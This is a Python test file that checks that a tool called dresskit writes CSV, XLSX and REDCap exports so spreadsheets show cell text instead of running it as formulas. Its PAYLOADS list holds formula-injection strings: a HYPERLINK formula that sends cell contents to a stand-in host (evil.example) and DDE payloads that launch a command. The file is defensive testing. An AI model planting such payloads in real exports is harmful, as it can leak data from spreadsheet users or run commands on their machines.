"""Issue 10, class 6 (output side): no CSV or XLSX dresskit writes runs a formula.

Bundles refuse formula-like text on import (the input side of class 6), so the values here
reach the writers as a registry filled before that rule, or edited by another tool, would
hand them over: a validated bundle whose text cells were replaced afterwards. Every writer
(report tables, bundle folder/.zip/.xlsx, REDCap) must write them so that a spreadsheet shows
text (OWASP "CSV Injection": a leading quote in CSV, a string cell with quotePrefix in XLSX),
leave numbers as numbers, and an exported XLSX must import back unchanged.
"""

from __future__ import annotations

import dataclasses
import io
import zipfile
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from dresskit.analysis.rendering import csv, xlsx
from dresskit.bundle import Bundle, read_bundle, read_tables, write_bundle
from dresskit.bundle.schema import DATA_TABLES
from dresskit.registry.redcap import write_redcap_files
from dresskit.spreadsheets import starts_like_formula
from tests.hostile.output_bundles import EXAMPLES, PATH_LIKE_NAMES, run_dresskit

#: One payload per OWASP prefix that an .xlsx cell can hold (a carriage return it cannot).
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
)


def with_payloads(bundle: Bundle) -> Bundle:
    """``bundle`` with a payload in every free-text column that reaches an export."""
    exposures = bundle.drug_exposures
    drugs = [PAYLOADS[row % len(PAYLOADS)] for row in range(exposures.height)]
    observations = bundle.observations.with_columns(
        pl.Series("text", [PAYLOADS[0]] + [None] * (bundle.observations.height - 1))
    )
    findings = bundle.findings.with_columns(
        pl.Series("detail", [PAYLOADS[3]] + [None] * (bundle.findings.height - 1))
    )
    return dataclasses.replace(
        bundle,
        manifest={**bundle.manifest, "title": PAYLOADS[2]},
        drug_exposures=exposures.with_columns(pl.Series("drug", drugs)),
        observations=observations,
        findings=findings,
    )


@pytest.fixture(scope="module")
def shen() -> Bundle:
    return read_bundle(EXAMPLES / "shen2024")


def csv_cells(data: bytes) -> list[str]:
    frame = pl.read_csv(data, infer_schema=False)
    return [cell for column in frame.iter_columns() for cell in column.to_list() if cell]


def assert_no_formula_in_xlsx(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                xml = archive.read(member).decode()
                assert "<f>" not in xml, member
                assert "<f " not in xml, member


def test_bundle_folder_and_zip_quote_every_payload(shen: Bundle, tmp_path: Path) -> None:
    hostile = with_payloads(shen)
    folder = write_bundle(hostile, tmp_path / "folder", format="folder")
    archive_path = write_bundle(hostile, tmp_path / "b.zip", format="zip")
    with zipfile.ZipFile(archive_path) as archive:
        zipped = {Path(name).stem: archive.read(name) for name in archive.namelist()}
    planted = {
        "manifest": [PAYLOADS[2]],
        "drug_exposures": hostile.drug_exposures.get_column("drug").to_list(),
        "observations": [PAYLOADS[0]],
        "findings": [PAYLOADS[3]],
    }
    for table, payloads in planted.items():
        for data in ((folder / f"{table}.csv").read_bytes(), zipped[table]):
            cells = csv_cells(data)
            assert not [cell for cell in cells if starts_like_formula(cell)], table
            assert {"'" + payload for payload in payloads} <= set(cells), table


def test_bundle_xlsx_writes_payloads_as_quoted_text_and_reads_them_back_unchanged(
    shen: Bundle, tmp_path: Path
) -> None:
    hostile = with_payloads(shen)
    path = write_bundle(hostile, tmp_path / "b.xlsx", format="xlsx")
    assert_no_formula_in_xlsx(path.read_bytes())
    sheet = load_workbook(path)["drug_exposures"]
    drug_column = [cell.value for cell in sheet[1]].index("drug") + 1
    cell = sheet.cell(row=2, column=drug_column)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (PAYLOADS[0], "s", True)
    # Read as text, as the bundle reader does before validating: the very values written.
    tables = read_tables(path)
    assert tables["drug_exposures"].get_column("drug").to_list() == (
        hostile.drug_exposures.get_column("drug").to_list()
    )
    assert tables["observations"].get_column("text").to_list()[0] == PAYLOADS[0]


def test_an_exported_xlsx_bundle_imports_back_unchanged(tmp_path: Path) -> None:
    from tests.hostile.output_bundles import write_hostile_bundle

    original = read_bundle(
        write_hostile_bundle(
            tmp_path / "bundle",
            episode_ids=("E1", "e.2"),
            drugs=(*PATH_LIKE_NAMES, "[/]", "$x$", "日本語"),
            other_agents=("[bold red]x", "$\\alpha$"),
        )
    )
    again = read_bundle(write_bundle(original, tmp_path / "b.xlsx", format="xlsx"))
    assert again.manifest == original.manifest
    for table in DATA_TABLES:
        assert getattr(again, table).equals(getattr(original, table)), table


def test_redcap_records_quote_every_payload(shen: Bundle, tmp_path: Path) -> None:
    write_redcap_files(with_payloads(shen), tmp_path / "redcap")
    for name in ("records.csv", "manifest.csv"):
        cells = csv_cells((tmp_path / "redcap" / name).read_bytes())
        assert not [cell for cell in cells if starts_like_formula(cell)], name
    records = csv_cells((tmp_path / "redcap" / "records.csv").read_bytes())
    assert "'" + PAYLOADS[0] in records
    assert "2022-01-03" in records  # dates and numbers as written
    assert "-" + PAYLOADS[0] not in records


def test_report_table_writers_quote_text_and_leave_numbers(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {"observation": [PAYLOADS[0], "ALT"], "before_day": [-1, -1], "p": [0.01, None]}
    )
    written = pl.read_csv(csv(frame), infer_schema=False)
    assert written.rows() == [("'" + PAYLOADS[0], "-1", "0.01"), ("ALT", "-1", None)]
    data = xlsx(frame, sheet="paired_tests")
    assert_no_formula_in_xlsx(data)
    rows = list(load_workbook(io.BytesIO(data))["paired_tests"].iter_rows(values_only=True))
    assert rows[1:] == [(PAYLOADS[0], -1, 0.01), ("ALT", -1, None)]


def test_every_table_of_a_real_report_is_spreadsheet_safe(tmp_path: Path) -> None:
    out = tmp_path / "report"
    completed = run_dresskit(
        "report", str(EXAMPLES / "sim2022"), "--out", str(out), "--no-pdf",
        "--compare", "sim2022_table1",
    )  # fmt: skip
    assert completed.returncode == 0, completed.stderr
    for path in sorted((out / "tables").glob("*.csv")):
        cells = csv_cells(path.read_bytes())
        assert not [cell for cell in cells if starts_like_formula(cell)], path.name
    for path in sorted((out / "tables").glob("*.xlsx")):
        assert_no_formula_in_xlsx(path.read_bytes())
    paired = pl.read_csv(out / "tables" / "paired_tests.csv")
    assert paired.get_column("before_day").to_list() == [-1, -1, -1]  # numbers, not quoted
